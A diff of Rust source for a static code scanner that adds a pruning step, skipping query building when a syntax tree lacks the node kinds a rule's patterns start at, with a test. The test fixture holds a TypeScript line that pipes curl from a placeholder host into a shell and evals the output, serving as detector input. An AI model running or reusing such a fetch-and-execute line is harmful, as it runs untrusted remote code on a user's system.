@@ -14,6 +14,7 @@
 use crate::hit::Hit;
 #[cfg(doc)]
 use crate::lazy::LazyQuery;
+use crate::query_roots::any_kind_present;
 use crate::query_windows::WindowFinder;
 use crate::rule::{CompiledRule, Matcher};
 use crate::segment::Segment;
@@ -90,6 +91,18 @@ impl CombinedQueries {
         selection
     }
 
+    /// Whether a query for `grammar` holding the parts of `wanted` was built already (or is being built).
+    pub(crate) fn is_built(&self, grammar: Grammar, wanted: &Selection) -> bool {
+        let Some(slot) = GRAMMARS.iter().position(|g| *g == grammar) else {
+            return false;
+        };
+        self.slots[slot]
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .iter()
+            .any(|(held, _)| holds(held, wanted))
+    }
+
     /// A combined query for `grammar` holding at least the parts of `wanted`, built on first need.
     pub(crate) fn get(
         &self,
@@ -122,6 +135,31 @@ impl CombinedQueries {
         cell.get_or_init(|| build(grammar, rules, &selection));
         Some(BuiltCombined(cell))
     }
+}
+
+/// Whether a match of some part in `selection` can start in the tree under `root`: `false` only when every
+/// part's root kinds are known ([`crate::query_roots`]) and no named node of the tree has one.
+pub(crate) fn roots_present(
+    rules: &[CompiledRule],
+    selection: &Selection,
+    grammar: Grammar,
+    root: tree_sitter::Node<'_>,
+) -> bool {
+    let mut kinds: Vec<&str> = Vec::new();
+    for (rule, mask) in selection {
+        let Matcher::Query { query, .. } = &rules[*rule].matcher else {
+            return true;
+        };
+        for part in (0..query.part_count()).filter(|part| mask & (1 << part) != 0) {
+            let Some(roots) = query.part_roots(part) else {
+                return true;
+            };
+            kinds.extend(roots.iter().map(String::as_str));
+        }
+    }
+    kinds.sort_unstable();
+    kinds.dedup();
+    any_kind_present(root, grammar, &kinds)
 }
 
 /// Whether `held` holds every part of `wanted` (both sorted by rule).
@@ -411,19 +449,17 @@ mod tests {
     use skill_scan_model::{ArtifactScope, FileKind, FileRole, Language};
 
     fn query_rule_hits(rules: &RuleSet, path: &str, text: &str) -> Vec<(String, usize)> {
-        let language = if path.ends_with(".py") {
-            Language::Python
+        let (language, kind) = if path.ends_with(".py") {
+            (Language::Python, FileKind::Python)
+        } else if path.ends_with(".ts") {
+            (Language::Typescript, FileKind::Typescript)
         } else {
-            Language::Javascript
+            (Language::Javascript, FileKind::Javascript)
         };
         let file = SourceFile {
             rel_path: path,
             text,
-            kind: if language == Language::Python {
-                FileKind::Python
-            } else {
-                FileKind::Javascript
-            },
+            kind,
             scope: ArtifactScope::SupportingArtifact,
             language,
             role: FileRole::Source,
@@ -437,6 +473,42 @@ mod tests {
             .collect();
         hits.sort();
         hits
+    }
+
+    #[test]
+    fn a_tree_without_the_patterns_root_kinds_builds_no_query() {
+        let rules =
+            RuleSet::embedded(&crate::rule_set::testing::AnyName).unwrap_or_else(|e| panic!("{e}"));
+        let typescript = GRAMMARS
+            .iter()
+            .position(|g| *g == Grammar::Typescript)
+            .unwrap_or_else(|| panic!("no TypeScript slot"));
+        let built = || {
+            rules.combined.slots[typescript]
+                .lock()
+                .unwrap_or_else(PoisonError::into_inner)
+                .len()
+        };
+        // A declaration file names `exec` and `execSync` in its types: the literals select call patterns,
+        // but its tree has no call, so no query is built and no rule has a hit.
+        let declarations = "export declare function exec(command: string, cb: (e: Error) => void): void;\n\
+            export declare function execSync(command: string, options?: { env?: NodeJS.ProcessEnv }): Buffer;\n\
+            export interface Runner { spawn(cmd: string, args: string[]): void; eval(code: string): unknown }\n";
+        let queries: Vec<usize> = (0..rules.rules.len())
+            .filter(|i| matches!(rules.rules[*i].matcher, Matcher::Query { .. }))
+            .collect();
+        assert!(!rules
+            .combined
+            .selection(&rules.rules, &queries, declarations)
+            .is_empty());
+        assert!(query_rule_hits(&rules, "index.d.ts", declarations).is_empty());
+        assert_eq!(built(), 0, "a query was built for a tree without calls");
+        // The same words called: a query is built and the calls are found.
+        let calls = "import { execSync } from 'child_process';\n\
+            const out = execSync('curl -s https://example.invalid/i.sh | sh', { env: process.env });\n\
+            eval(out.toString());\n";
+        assert!(!query_rule_hits(&rules, "run.ts", calls).is_empty());
+        assert_eq!(built(), 1);
     }
 
     #[test]
